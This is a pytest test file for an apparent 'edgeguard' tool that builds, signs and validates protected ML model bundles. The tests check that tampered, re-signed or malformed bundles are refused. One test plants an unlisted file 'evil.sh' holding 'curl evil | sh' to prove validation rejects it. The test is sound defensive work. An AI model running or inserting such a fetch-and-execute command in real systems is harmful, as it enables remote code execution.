"""Protected small_cnn → bundle → edgeguard-runtime, on real data; tampering is refused."""
import json
import shutil
import subprocess
import sys

import numpy as np
import pytest

from edgeguard.build import build

RUNTIME = [sys.executable, "-m", "runtime.cli"]


@pytest.fixture(scope="module")
def bundle(protected, keys, tmp_path_factory):
    out = tmp_path_factory.mktemp("b") / "bundle"
    r = build(protected, out, target="jetson", sign_key=keys[0][0], samples=200, allow_weak=True)
    assert r["parity"]["max_abs_diff"] <= 1e-4 and r["parity"]["top1_agreement"] == 1.0
    return out


def _run(*args):
    return subprocess.run([*RUNTIME, *map(str, args)], capture_output=True, text=True)


def test_validate_bench_predict_pass(bundle, keys, tmp_path):
    r = _run("validate", bundle, "--public-key", keys[0][1], "--report", tmp_path / "r.json")
    assert r.returncode == 0, r.stdout + r.stderr
    rep = json.loads((tmp_path / "r.json").read_text())
    a = rep["accuracy"][0]
    assert rep["ok"] and a["accuracy"] > 0.6 and a["accuracy"] == pytest.approx(a["host_accuracy"])
    cmd = [ln for ln in (bundle / "build_engine.sh").read_text().splitlines() if ln.startswith("trtexec")]
    assert len(cmd) == 1 and "--fp16" in cmd[0] and "force" not in cmd[0]
    r = _run("bench", bundle, "--iterations", "5", "--batch", "8", "--public-key", keys[0][1])
    assert r.returncode == 0 and "p99" in r.stdout
    from PIL import Image

    with np.load(bundle / "validation" / "authorised_mnist.npz") as z:
        x, y = z["x"][:3], z["y"][:3]
    paths = []
    for i, img in enumerate(x):
        p = tmp_path / f"{i}.png"
        Image.fromarray(img.transpose(1, 2, 0)).save(p)
        paths.append(p)
    r = _run("predict", bundle, *paths, "--public-key", keys[0][1])
    assert r.returncode == 0
    assert [line.split("\t")[1] for line in r.stdout.strip().splitlines()] == [str(v) for v in y]


def _copy(bundle, tmp_path):
    dst = tmp_path / "b"
    shutil.copytree(bundle, dst)
    return dst


def test_wrong_key_refused(bundle, keys):
    r = _run("validate", bundle, "--public-key", keys[1][1])
    assert r.returncode == 1 and "signature" in r.stderr


def test_edited_manifest_refused(bundle, keys, tmp_path):
    b = _copy(bundle, tmp_path)
    m = json.loads((b / "manifest.json").read_text())
    m["authorised"]["min_accuracy"] = 0.0
    (b / "manifest.json").write_text(json.dumps(m))
    r = _run("validate", b, "--public-key", keys[0][1])
    assert r.returncode == 1 and "signature" in r.stderr


def test_tampered_model_refused(bundle, keys, tmp_path):
    b = _copy(bundle, tmp_path)
    data = bytearray((b / "model.onnx").read_bytes())
    data[-100] ^= 0xFF
    (b / "model.onnx").write_bytes(bytes(data))
    r = _run("validate", b, "--public-key", keys[0][1])
    assert r.returncode == 1 and "model.onnx" in r.stderr


def test_flipped_masked_weight_refused(bundle, tmp_path):
    """One masked weight set non-zero, the model hash updated and the bundle re-signed: the zero check catches it."""
    import onnx
    from onnx import numpy_helper

    from converters.signing import generate_keypair, sign
    from runtime import maskbits
    from runtime.fileio import sha256_file

    b = _copy(bundle, tmp_path)
    man = json.loads((b / "manifest.json").read_text())
    model = onnx.load(str(b / "model.onnx"))
    masks = maskbits.unpack((b / "mask.bits").read_bytes(), man["mask"]["layout"])
    layer = next(k for k, m in masks.items() if (~m).any())
    init_name = man["mask"]["initializers"][layer]
    for init in model.graph.initializer:
        if init.name == init_name:
            w = numpy_helper.to_array(init).copy()
            w[~masks[layer]] = 0
            idx = np.argwhere(~masks[layer])[0]
            w[tuple(idx)] = 0.25
            init.CopyFrom(numpy_helper.from_array(w, init_name))
    (b / "model.onnx").write_bytes(model.SerializeToString())
    man["model"]["sha256"] = sha256_file(b / "model.onnx")
    man["model"]["size"] = (b / "model.onnx").stat().st_size
    raw = json.dumps(man).encode()
    (b / "manifest.json").write_bytes(raw)
    key, pub = generate_keypair(tmp_path / "attacker")
    (b / "manifest.sig").write_bytes(sign(raw, key))
    r = _run("validate", b, "--public-key", pub)
    assert r.returncode == 1 and "mask-zeros" in r.stderr and "not 0" in r.stderr


def test_bad_input_exit_2(tmp_path, bundle):
    assert _run("validate", tmp_path / "nope", "--public-key", "x").returncode == 2
    b = _copy(bundle, tmp_path)
    (b / "manifest.json").write_text("{not json")
    r = _run("validate", b, "--allow-unsigned")
    assert r.returncode == 2 and "JSON" in r.stderr
    r = _run("validate", bundle, "--public-key", tmp_path / "missing.pub")
    assert r.returncode == 2 and "not found" in r.stderr
    r = _run("validate", bundle, "--allow-unsigned", "--backend", "tensorrt")
    assert r.returncode == 2 and "--engine" in r.stderr and r.stderr.startswith("error:")


def test_truncated_engine_refused(bundle, keys, tmp_path):
    eng = tmp_path / "model.engine"
    eng.write_bytes(b"\x00" * 100)
    r = _run("validate", bundle, "--public-key", keys[0][1], "--engine", eng, "--backend", "onnxruntime")
    assert r.returncode == 1 and "truncated" in r.stderr


def test_same_inputs_same_onnx_bytes(protected, tmp_path):
    a = build(protected, tmp_path / "a", samples=50, allow_weak=True)
    build(protected, tmp_path / "b", samples=50, allow_weak=True)
    assert (tmp_path / "a" / "model.onnx").read_bytes() == (tmp_path / "b" / "model.onnx").read_bytes()
    ma = json.loads((tmp_path / "a" / "manifest.json").read_text())
    mb = json.loads((tmp_path / "b" / "manifest.json").read_text())
    ma.pop("created"), mb.pop("created")
    assert ma == mb and a["signed"] is False


def test_failed_build_leaves_no_bundle(protected, tmp_path):
    from edgeguard.errors import EdgeguardError

    with pytest.raises(EdgeguardError):
        build(protected, tmp_path / "x", sign_key=tmp_path / "no.key", samples=20, allow_weak=True)
    assert not (tmp_path / "x").exists()
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".x")]


def test_int8_qdq_agrees_with_fp32(protected, tmp_path):
    # The bar: top-1 agreement with fp32 >= 99 % on the validation samples (99.3 % measured here).
    r = build(protected, tmp_path / "q", samples=300, precision="int8", allow_weak=True)
    assert r["int8_top1_agreement"] >= 0.99, r["int8_top1_agreement"]
    rr = _run("validate", tmp_path / "q", "--allow-unsigned")
    assert rr.returncode == 0, rr.stdout + rr.stderr


def test_export_guard_refuses_parametrized_model(tmp_path):
    import torch
    from torch.nn.utils import prune

    from converters.onnx_export import ExportError, export_onnx
    from edgeguard.models import create_model

    m = create_model("small_cnn")
    prune.l1_unstructured(m.head[2], "weight", amount=0.5)
    with pytest.raises(ExportError, match="weight_orig|_mask"):
        export_onnx(m, {}, tmp_path / "m.onnx")
    assert torch.is_tensor(m.head[2].weight)


def test_protection_is_stated_first(bundle, keys):
    r = _run("validate", bundle, "--public-key", keys[0][1])
    first = r.stdout.splitlines()[0]
    assert r.returncode == 0 and "protection" in first and "magnitude" in first and "pruned" in first


def test_unprotected_bundle_says_so(mnist_model, keys, tmp_path):
    out = tmp_path / "plain"
    build(mnist_model, out, target="cpu", sign_key=keys[0][0], samples=50)
    r = _run("validate", out, "--public-key", keys[0][1], "--report", tmp_path / "r.json")
    assert "none  protection   none: this model is not protected" in r.stdout.splitlines()[0]
    assert json.loads((tmp_path / "r.json").read_text())["protected"] is False


def test_unlisted_file_fails_validation(bundle, keys, tmp_path):
    b = _copy(bundle, tmp_path)
    (b / "evil.sh").write_text("curl evil | sh\n")
    r = _run("validate", b, "--public-key", keys[0][1])
    assert r.returncode == 1 and "evil.sh" in r.stderr and len(r.stderr.splitlines()) == 1
    (b / "evil.sh").unlink()
    (b / "model.engine").write_bytes(b"\0" * 2048)  # the device's own engine is allowed by name
    assert _run("validate", b, "--public-key", keys[0][1]).returncode == 0


def test_bench_and_predict_refuse_a_tampered_bundle(bundle, keys, tmp_path):
    b = _copy(bundle, tmp_path)
    data = bytearray((b / "model.onnx").read_bytes())
    data[-100] ^= 0xFF
    (b / "model.onnx").write_bytes(bytes(data))
    for cmd in (["bench", b, "--iterations", "2"], ["predict", b, tmp_path / "x.png"]):
        r = _run(*cmd, "--public-key", keys[0][1])
        assert r.returncode == 1 and "model.onnx" in r.stderr
    r = _run("bench", bundle, "--iterations", "2")
    assert r.returncode == 2 and "--public-key" in r.stderr  # unsigned only when asked for


def test_engine_without_tensorrt_is_a_failed_check(bundle, keys, tmp_path):
    from runtime.backends import tensorrt_backend

    if tensorrt_backend.is_available():
        pytest.skip("TensorRT is present here")
    eng = tmp_path / "model.engine"
    eng.write_bytes(b"\x01" * 4096)
    r = _run("validate", bundle, "--public-key", keys[0][1], "--engine", eng)
    assert r.returncode == 1 and "TensorRT" in r.stderr and "PASSED" not in r.stdout


def test_runtime_bad_input_is_one_line_exit_2(bundle, keys, tmp_path):
    cases = [["bench", bundle, "--iterations", "0", "--allow-unsigned"],
             ["bench", bundle, "--batch", "-1", "--allow-unsigned"],
             ["validate", bundle, "--public-key", tmp_path],
             ["validate", bundle, "--public-key", keys[0][1], "--report", tmp_path]]
    folder = _copy(bundle, tmp_path / "folder")
    (folder / "manifest.json").unlink()
    (folder / "manifest.json").mkdir()
    cases.append(["validate", folder, "--allow-unsigned"])
    for args in cases:
        r = _run(*args)
        assert r.returncode == 2 and len(r.stderr.strip().splitlines()) == 1 and "Traceback" not in r.stderr, args
    loop = _copy(bundle, tmp_path / "loop")
    (loop / "model.onnx").unlink()
    (loop / "model.onnx").symlink_to("model.onnx")
    r = _run("validate", loop, "--allow-unsigned")
    assert r.returncode == 1 and len(r.stderr.strip().splitlines()) == 1 and "Traceback" not in r.stderr
    for bad in ("a\u0000b.npz", "n" * 5000):
        b = _copy(bundle, tmp_path / f"n{len(bad)}")
        m = json.loads((b / "manifest.json").read_text())
        m["files"][0]["path"] = bad
        (b / "manifest.json").write_text(json.dumps(m))
        r = _run("validate", b, "--allow-unsigned")
        assert r.returncode == 2 and ("safe file name" in r.stderr or "string" in r.stderr), r.stderr


def test_build_never_deletes_what_it_did_not_write(protected, tmp_path):
    mine = tmp_path / "photos"
    mine.mkdir()
    (mine / "holiday.jpg").write_bytes(b"precious")
    from edgeguard.errors import EdgeguardError

    with pytest.raises(EdgeguardError, match="not an edgeguard bundle"):
        build(protected, mine, samples=20, allow_weak=True)
    assert (mine / "holiday.jpg").read_bytes() == b"precious"
    (tmp_path / "file").write_text("x")
    with pytest.raises(EdgeguardError, match="not a folder"):
        build(protected, tmp_path / "file", samples=20, allow_weak=True)


def test_replacing_a_bundle_has_no_empty_window(protected, tmp_path, monkeypatch):
    """A kill just before or just after the swap leaves a complete bundle at --out (the old or the new one);
    the temp folders killed builds leave are cleared by the next build."""
    import converters.bundle as cb

    out = tmp_path / "b"
    build(protected, out, samples=20, allow_weak=True)
    first = (out / "manifest.json").read_bytes()
    real = cb.swap_into_place

    def killed_before(new, dst):
        raise KeyboardInterrupt

    def killed_after(new, dst):
        real(new, dst)
        raise KeyboardInterrupt

    monkeypatch.setattr(cb, "swap_into_place", killed_before)
    monkeypatch.setattr(cb.shutil, "rmtree", lambda *a, **k: None)  # SIGKILL: no cleanup runs either
    with pytest.raises(KeyboardInterrupt):
        build(protected, out, samples=30, allow_weak=True)
    assert (out / "manifest.json").read_bytes() == first and _run("validate", out, "--allow-unsigned").returncode == 0
    monkeypatch.setattr(cb, "swap_into_place", killed_after)
    with pytest.raises(KeyboardInterrupt):
        build(protected, out, samples=30, allow_weak=True)
    assert (out / "manifest.json").read_bytes() != first and _run("validate", out, "--allow-unsigned").returncode == 0
    assert [p for p in tmp_path.iterdir() if p.name.startswith(".b.")]  # the killed builds' leftovers
    monkeypatch.undo()
    build(protected, out, samples=20, allow_weak=True)
    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".b.")]


def test_runtime_leaves_no_telemetry_files(bundle, tmp_path):
    import os

    env = {**os.environ, "XDG_CACHE_HOME": str(tmp_path / "cache"), "HOME": str(tmp_path)}
    env.pop("ORT_DISABLE_TELEMETRY", None)
    r = subprocess.run([*RUNTIME, "validate", str(bundle), "--allow-unsigned"], capture_output=True, text=True,
                       env=env)
    assert r.returncode == 0 and not (tmp_path / "cache" / "Microsoft").exists()


def test_deepstream_and_triton_files_match_the_manifest(bundle, keys, tmp_path):
    """The camera-pipeline files say what the manifest says (normalisation, input shape, classes), are listed
    in the signed manifest, and a change to one of them fails validation."""
    import configparser
    import re

    man = json.loads((bundle / "manifest.json").read_text())
    listed = {f["path"] for f in man["files"]}
    inp, classes = man["input"], man["classes"]
    c, h, w = inp["shape"]
    assert {"labels.txt", "deepstream/config_infer.txt", "triton/edgeguard_classifier/config.pbtxt",
            "triton/edgeguard_classifier/1/model.onnx"} <= listed
    assert (bundle / "labels.txt").read_text().split() == classes
    ds = configparser.ConfigParser()
    ds.read_string((bundle / "deepstream" / "config_infer.txt").read_text())
    prop = ds["property"]
    assert float(prop["net-scale-factor"]) == pytest.approx(inp["scale"] / inp["std"][0])
    assert [float(v) for v in prop["offsets"].split(";")] == pytest.approx([m / inp["scale"] for m in inp["mean"]])
    assert prop["infer-dims"] == f"{c};{h};{w}" and int(prop["num-detected-classes"]) == len(classes)
    assert prop["network-mode"] == {"fp32": "0", "int8": "1", "fp16": "2"}[man["target"]["precision"]]
    assert prop["onnx-file"] == "../model.onnx" and prop["output-blob-names"] == inp["output_name"]
    assert (bundle / "deepstream" / prop["labelfile-path"]).read_text().strip().split(";") == classes
    x = np.arange(256, dtype=np.float32)  # nvinfer's formula gives the manifest's normalisation exactly
    ours = (x * inp["scale"] - inp["mean"][0]) / inp["std"][0]
    theirs = float(prop["net-scale-factor"]) * (x - float(prop["offsets"].split(";")[0]))
    assert np.allclose(ours, theirs, atol=1e-6)
    pb = (bundle / "triton" / "edgeguard_classifier" / "config.pbtxt").read_text()
    assert re.search(rf"dims: \[ {c}, {h}, {w} \]", pb) and re.search(rf"dims: \[ {len(classes)} \]", pb)
    assert f'name: "{inp["input_name"]}"' in pb and f'name: "{inp["output_name"]}"' in pb
    assert (bundle / "triton" / "edgeguard_classifier" / "1" / "model.onnx").read_bytes() == \
        (bundle / "model.onnx").read_bytes()
    b = _copy(bundle, tmp_path)
    cfg = b / "deepstream" / "config_infer.txt"
    cfg.write_text(cfg.read_text().replace("net-scale-factor=", "net-scale-factor=1#"))
    r = _run("validate", b, "--public-key", keys[0][1])
    assert r.returncode == 1 and "config_infer.txt" in r.stderr


def test_build_engine_script_uses_the_device_engine_cache(bundle, tmp_path):
    """build_engine.sh with a stand-in trtexec: the first run builds and stores the engine, a re-deploy of the
    same model takes it from the device cache without running trtexec; the timing cache is the shared one."""
    import os
    import stat

    b = _copy(bundle, tmp_path)
    calls = tmp_path / "calls.txt"
    fake = tmp_path / "bin" / "trtexec"
    fake.parent.mkdir()
    fake.write_text(f"#!{sys.executable}\nimport sys\nopen({str(calls)!r}, 'a').write(' '.join(sys.argv[1:]) + '\\n')\n"
                    "out = [a.split('=', 1)[1] for a in sys.argv if a.startswith('--saveEngine=')][0]\n"
                    "open(out, 'wb').write(b'E' * 4096)\n")
    fake.chmod(fake.stat().st_mode | stat.S_IEXEC)
    repo = str(__import__("pathlib").Path(__file__).resolve().parents[1])
    env = {**os.environ, "PATH": f"{fake.parent}{os.pathsep}{os.environ['PATH']}", "EDGEGUARD_PYTHON": sys.executable,
           "PYTHONPATH": repo, "EDGEGUARD_ENGINE_CACHE": str(tmp_path / "cache"),
           "EDGEGUARD_TRT_VERSION": "10.3.0", "EDGEGUARD_COMPUTE_CAPABILITY": "8.7"}
    r = subprocess.run(["sh", str(b / "build_engine.sh")], env=env, capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    assert len(calls.read_text().splitlines()) == 1 and (b / "model.engine").stat().st_size == 4096
    assert f"--timingCacheFile={tmp_path / 'cache'}/timing-trt10.3.0-sm8.7.cache" in calls.read_text()
    assert len(list((tmp_path / "cache").glob("*.engine"))) == 1
    (b / "model.engine").unlink()
    r = subprocess.run(["sh", str(b / "build_engine.sh")], env=env, capture_output=True, text=True)
    assert r.returncode == 0 and "from the device cache" in r.stdout, r.stdout + r.stderr
    assert len(calls.read_text().splitlines()) == 1 and (b / "model.engine").stat().st_size == 4096
    r = subprocess.run(["sh", str(b / "build_engine.sh")], env={**env, "EDGEGUARD_COMPUTE_CAPABILITY": "7.2"},
                       capture_output=True, text=True)
    assert r.returncode == 0 and len(calls.read_text().splitlines()) == 2  # another GPU: built again


def test_dynamo_exporter_maps_masks_by_name_and_torchscript_is_only_a_fallback(protected, tmp_path, monkeypatch,
                                                                               caplog):
    import onnx

    import converters.onnx_export as ox
    from edgeguard.artifact import load_artifact

    art = load_artifact(protected)
    masks = art.mask.numpy()
    r = ox.export_onnx(art.model, masks, tmp_path / "d.onnx")
    assert r.exporter == "dynamo" and r.fallback_reason is None and r.opset == ox.OPSET
    assert all(r.mapping[k] == k for k in masks)  # parameter names survive as initializer names
    meta = {p.key: p.value for p in onnx.load(str(tmp_path / "d.onnx")).metadata_props}
    assert meta["edgeguard_exporter"] == "dynamo"

    def broken(*a, **k):
        raise RuntimeError("torch.export could not trace this model")

    monkeypatch.setattr(ox, "_export_dynamo", broken)
    with caplog.at_level("WARNING"):
        r = ox.export_onnx(art.model, masks, tmp_path / "t.onnx")
    assert r.exporter == "torchscript" and "could not trace" in r.fallback_reason and r.opset == ox.LEGACY_OPSET
    assert "using the TorchScript exporter" in caplog.text
    assert set(r.mapping) == set(masks)  # mapped by scope / call order, the zero check passed
    with pytest.raises(ox.ExportError, match="dynamo exporter failed"):
        ox.export_onnx(art.model, masks, tmp_path / "x.onnx", exporter="dynamo")
